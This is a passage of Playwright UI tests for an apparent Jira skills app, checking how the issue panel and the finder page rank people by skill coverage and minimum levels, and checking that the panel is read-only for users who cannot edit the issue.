    expect(page.get_by_label("Minimum level of Go")).to_have_value("")  # added at any level
    ranked = page.get_by_role("list", name="Who could take this issue")
    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Bob Builder", "Dan Diaz", "Carol Chen"])
    expect(ranked.locator(".why")).to_have_text(["covers all 2", "covers all 2", "covers 1 of 2, missing Python",
                                                 "covers 1 of 2, missing Go"])
    expect(ranked.locator(".levels").first).to_have_text("Python: Expert · Go: Competent")
    expect(ranked.locator(".open-issues")).to_have_text(["5 open issues", "1 open issue", "no open issues",
                                                        "no open issues"])
    assert fake_jira.issue_property("tenant-a", ISSUE_ID) == {"skills": ["Python", "Go"]}
    me.screenshot("issue-panel-needs")

    # Go at Proficient or above: Alice (Go 2) no longer meets it, and the words say so.
    page.get_by_label("Minimum level of Go").select_option(label="at least Proficient")
    expect(page.locator("#needed-status")).to_have_text("Go now needs Proficient or above.")
    expect(ranked.locator(".person-name").first).to_have_text("Bob Builder")
    alice = ranked.locator('li[data-account-id="acc-alice"]')
    expect(alice.locator(".why")).to_have_text("covers 1 of 2, missing Go")
    expect(alice.locator(".levels")).to_have_text("Python: Expert · Go: Competent (needs Proficient)")
    response = jira.request(tenant, "GET", f"/api/issue-skills?issueId={ISSUE_ID}", sub=ALICE)
    assert response.json["skills"] == [{"name": "Python", "minLevel": 2}, {"name": "Go", "minLevel": 3}]

    page.get_by_role("button", name="Remove Python").click()
    expect(page.locator("#needed-list li .name")).to_have_text(["Go"])
    # Go at Proficient or above alone: Dan (4), then Bob (3); Alice (2) meets nothing and is left out.
    expect(ranked.locator(".person-name")).to_have_text(["Dan Diaz", "Bob Builder"])
    ranked.locator('li[data-account-id="acc-bob"] .person').click()  # a person's skills page, not an assignment
    wait_until(page, lambda: me.jira.navigations)
    assert me.jira.navigations[-1]["context"]["customData"] == {"accountId": BOB}


def test_issue_panel_is_read_only_for_whoever_may_not_edit_the_issue(ui, jira, tenant, skilled):
    assert jira.request(tenant, "PUT", f"/api/issue-skills?issueId={ISSUE_ID}", sub=ALICE,
                        json={"skills": [{"name": "Python", "minLevel": 3}, "Figma"]}).status_code == 200
    me = ui(BOB)
    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder"})
    me.jira.issues["PRJ-1"] = ALICE
    page = me.open(PANEL)
    expect(page.locator("#needed-list li .name")).to_have_text(["Python", "Figma"])
    expect(page.locator("#needed-list .min-level")).to_have_text(["at least Proficient", "any level"])
    expect(page.locator("#needed-form")).to_be_hidden()
    expect(page.locator("#needed-list button")).to_have_count(0)
    expect(page.locator("#needed-list select")).to_have_count(0)
    ranked = page.get_by_role("list", name="Who could take this issue")
    # Alice (Python 4), Carol (Python 3), Dan (Figma 1), Bob (Figma unrated: 0; his Python 2 is too low)
    expect(ranked.locator(".why")).to_have_text(["covers 1 of 2, missing Figma", "covers 1 of 2, missing Figma",
                                                 "covers 1 of 2, missing Python", "covers 1 of 2, missing Python"])
    me.screenshot("issue-panel-read-only")


def test_finder_ranks_people_with_minimum_levels(ui, jira, tenant, skilled):
    me = ui(BOB)
    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder", "acc-carol": "Carol Chen", "acc-dan": "Dan Diaz"})
    page = me.open("/pages/finder")
    expect(page.locator("#tree > ul > li")).to_have_count(3)
    search_skills(page, "Python", "Go")
    ranked = page.get_by_role("list", name="People for Python, Go")
    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Bob Builder", "Dan Diaz", "Carol Chen"])
    page.get_by_label("Minimum level of Python").select_option(label="at least Proficient")
    expect(ranked.locator(".person-name")).to_have_text(["Alice Example", "Dan Diaz", "Bob Builder", "Carol Chen"])
    expect(ranked.locator(".why")).to_have_text(["covers all 2", "covers 1 of 2, missing Python",
                                                 "covers 1 of 2, missing Python", "covers 1 of 2, missing Go"])
    expect(ranked.locator(".levels").nth(2)).to_have_text("Python: Competent (needs Proficient) · Go: Proficient")
    expect(page.locator(".search-summary")).to_have_text("4 people match; 1 has all of: Python, Go.")
    me.screenshot("finder-ranked")
